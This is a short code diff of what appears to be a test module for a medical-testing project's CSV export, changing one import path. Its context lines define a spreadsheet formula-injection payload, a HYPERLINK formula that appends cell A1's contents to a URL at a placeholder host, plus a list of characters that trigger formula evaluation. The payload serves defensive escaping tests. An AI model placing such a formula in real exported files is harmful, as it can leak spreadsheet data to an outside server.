@@ -14,7 +14,7 @@ from runner_helpers import go, records
 from runner_parts import Dim
 
 from medtest.results.tables import make_tables
-from medtest.runner.spreadsheets import frame_for_csv, table_for_csv, text_cell
+from medtest.runner.records.spreadsheets import frame_for_csv, table_for_csv, text_cell
 
 ATTACK = '=HYPERLINK("http://x.example/?"&A1,"{}")'
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
